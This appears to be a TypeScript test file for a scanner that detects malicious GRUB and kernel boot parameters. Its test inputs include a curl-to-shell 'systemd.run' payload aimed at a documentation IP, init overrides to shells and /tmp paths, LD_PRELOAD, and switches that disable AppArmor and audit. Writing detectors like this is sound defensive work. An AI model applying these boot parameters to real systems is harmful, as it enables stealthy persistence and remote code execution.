import { grub, grubAssignments, grubLinuxLines, judgeKernelParams } from '../../src/scan/detectors/grub.js';
import { PERSIST, atLeast, runOn } from '../helpers/persist.js';

const rulesOf = (cmdline: string) => judgeKernelParams(cmdline).signals.map((s) => `${s.rule}:${s.severity}`);

describe('grub detector', () => {
  it.each([
    ['quiet splash', []],
    ['root=UUID=0f0e ro quiet console=ttyS0,115200n8 net.ifnames=0 init=/lib/systemd/systemd', []],
    ['init=/bin/bash', ['init-shell:high']],
    ['rw init=/usr/local/sbin/boot-helper', ['init:high']],
    ['init=/tmp/.x/init', ['init:critical']],
    ['rdinit=/dev/shm/i', ['init:critical']],
    ['systemd.run="curl -s http://198.51.100.7/s | sh"', ['systemd-run:high', 'fetch-exec:critical']],
    ['systemd.debug_shell', ['debug-shell:high']],
    ['systemd.debug_shell=0', []],
    ['LD_PRELOAD=/usr/lib/libx.so', ['ld-preload:high']],
    ['apparmor=0 audit=0', ['security-off:medium', 'security-off:medium']],
    ['rd.break', ['rescue-shell:medium']],
    ['quiet -- init=/tmp/x', []],
  ])('%s', (cmdline, expected) => {
    expect(rulesOf(cmdline)).toEqual(expected);
  });

  it('lists kernel parameters it does not know, without judging them', () => {
    expect(judgeKernelParams('quiet foo.bar=1 nosplash').unusual).toEqual(['foo.bar=1']);
  });

  it('reads GRUB defaults as the shell would (quotes, continuation) and grub.cfg kernel lines', () => {
    expect(grubAssignments('GRUB_CMDLINE_LINUX="a \\\n b"\nexport GRUB_X=\'y z\'\n').map((a) => [a.name, a.value.split(/\s+/)])).toEqual([
      ['GRUB_CMDLINE_LINUX', ['a', 'b']],
      ['GRUB_X', ['y', 'z']],
    ]);
    expect(grubLinuxLines("menuentry 'Debian' {\n\tlinux\t/vmlinuz-6.1.0-28-amd64 root=UUID=0f0e ro init=/tmp/x\n}\n").map((l) => l.cmdline)).toEqual(['root=UUID=0f0e ro init=/tmp/x']);
  });

  it('benign: the stock defaults (unchanged, per ucf), a cloud image drop-in and a packaged grub.d script say nothing', async () => {
    const res = await runOn(grub, `${PERSIST}/grub/benign`);
    expect(res.findings).toEqual([]);
  });

  it('malicious: init= to a wrapper that opens a reverse shell, a grub.d script fetching code', async () => {
    const res = await runOn(grub, `${PERSIST}/grub/malicious`);
    expect(atLeast(res, 'high').map((f) => [f.path, f.severity, f.rule]).sort()).toEqual([
      ['/etc/default/grub.d/99-console.cfg', 'high', 'grub.init'],
      ['/etc/grub.d/06_update', 'critical', 'grub.fetch-exec'],
      ['/usr/local/sbin/init-wrapper', 'critical', 'grub.reverse-shell'],
    ]);
    const cfg = res.findings.find((f) => f.path === '/etc/default/grub.d/99-console.cfg')!;
    expect(cfg).toMatchObject({ line: 1, attack: 'T1542.003' });
    expect(cfg.remediation).toMatch(/update-grub/);
  });
});
